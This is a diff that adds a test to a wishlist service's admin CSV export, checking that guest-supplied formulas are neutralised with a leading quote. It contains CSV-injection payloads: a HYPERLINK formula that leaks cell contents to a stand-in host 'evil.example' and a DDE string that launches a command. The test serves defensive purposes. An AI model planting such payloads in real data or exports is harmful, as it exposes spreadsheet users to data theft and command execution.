@@ -176,6 +176,28 @@ describe('GET /v1/admin/export/wishlists.csv', () => {
     expect(parsed.filter((r) => r[5] === 'h,7')).toHaveLength(3)
   })
 
+  it('defuses a formula a guest saves as a handle or list name: the cell starts with a quote (OWASP)', async () => {
+    const victim = await t.createShop('growth', { multi_wishlist_enabled: true })
+    const guest = victim.guest('g_formula-guest-0001')
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
+    expect((await t.call('POST', '/v1/wishlists/g_formula-guest-0001/items', { headers: guest, body: { product_id: '901', handle: formula } })).status).toBe(201)
+    const list = await t.call('POST', '/v1/wishlists/g_formula-guest-0001/lists', { headers: guest, body: { name: '@SUM(1+1)*cmd|" /C calc"!A0' } })
+    expect(list.status).toBe(201)
+    expect((await t.call('POST', `/v1/wishlists/g_formula-guest-0001/items?wishlist_id=${list.body.data.wishlist.wishlistId}`, { headers: guest, body: { product_id: '902', handle: '-2+3' } })).status).toBe(201)
+    const res = await t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${await victim.adminToken()}` } })
+    expect(res.statusCode).toBe(200)
+    // No cell of the file starts with a formula character, whatever a spreadsheet's parser does with quotes.
+    expect(res.body).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/)
+    const [, ...rows] = parseCsv(res.body)
+    expect(rows.find((r) => r[3] === '901')?.[5]).toBe(`'${formula}`)
+    const named = rows.find((r) => r[3] === '902')
+    expect(named?.[2]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
+    expect(named?.[5]).toBe(`'-2+3`)
+    // The API still returns what was saved.
+    const page = await t.call('GET', '/v1/wishlists/g_formula-guest-0001', { headers: guest })
+    expect(page.body.data.items[0].handle).toBe(formula)
+  })
+
   it('is just the header for a shop without items', async () => {
     const empty = await t.createShop('free')
     const res = await t.inject({ method: 'GET', url: '/v1/admin/export/wishlists.csv', headers: { authorization: `Bearer ${await empty.adminToken()}` } })
